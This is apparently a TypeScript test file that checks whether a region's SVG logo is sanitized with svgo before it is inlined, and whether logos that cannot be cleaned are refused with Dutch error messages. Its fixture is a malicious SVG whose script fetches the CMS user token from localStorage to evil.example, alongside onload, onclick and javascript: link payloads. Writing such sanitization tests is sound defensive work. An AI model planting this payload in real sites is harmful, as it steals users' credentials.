/**
 * A region's SVG logo is cleaned with svgo before it is inlined or served;
 * what cannot be cleaned stops the check and the build with a Dutch message.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cleanLogo } from '../../../src/lib/editions/svg-logo.ts';
import { loadRegionConfig } from '../../../src/lib/editions/region-config.ts';
import { resolveEdition } from '../../../src/lib/editions/edition.ts';
import { ContentError } from '../../../src/lib/messages/errors.ts';

const MALICIOUS = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)">
  <script>fetch('https://evil.example/?t=' + localStorage['decap-cms-user'])</script>
  <a xlink:href="javascript:alert(2)"><rect width="10" height="10" style="fill:red" onclick="alert(3)"/></a>
</svg>`;

test('svgo removes scripts, event handlers, javascript: links and styles; the shapes stay', () => {
  const { svg, problems } = cleanLogo(MALICIOUS);
  assert.deepEqual(problems, []);
  assert.doesNotMatch(svg, /script|onload|onclick|javascript|style|href/i);
  assert.match(svg, /^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg" viewBox="0 0 10 10"><path fill="red"/);
});

test('what cannot be cleaned is refused: foreign images, embedded HTML, no SVG at all', () => {
  assert.deepEqual(cleanLogo('<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/></svg>').problems, ['een link naar buiten de SVG (href)']);
  assert.ok(cleanLogo('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div>x</div></foreignObject></svg>').problems.includes('een <foreignObject> (HTML in de SVG)'));
  assert.deepEqual(cleanLogo('<html><body>x</body></html>').problems, ['geen <svg> als buitenste element']);
});

test('a region with a malicious logo gets the cleaned logo; one that cannot be cleaned is refused with file and field', () => {
  const root = mkdtempSync(join(tmpdir(), 'kvo-logo-'));
  try {
    cpSync('regions/voorbeeld-noord', join(root, 'regions', 'voorbeeld-noord'), { recursive: true });
    const logo = join(root, 'regions', 'voorbeeld-noord', 'public', 'logo.svg');
    writeFileSync(logo, MALICIOUS);
    const edition = resolveEdition({ REGION: 'voorbeeld-noord' }, root);
    assert.doesNotMatch(edition.logoSvg!, /script|onload|onclick|javascript/i);

    writeFileSync(logo, readFileSync(logo, 'utf8').replace('</svg>', '<foreignObject><iframe src="https://evil.example/"/></foreignObject></svg>'));
    assert.throws(
      () => loadRegionConfig(root, 'voorbeeld-noord'),
      (error: unknown) => error instanceof ContentError && error.problems.some((problem) => problem.file === 'regions/voorbeeld-noord/public/logo.svg' && problem.field === 'logo' && /foreignObject/.test(problem.found)),
    );
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});
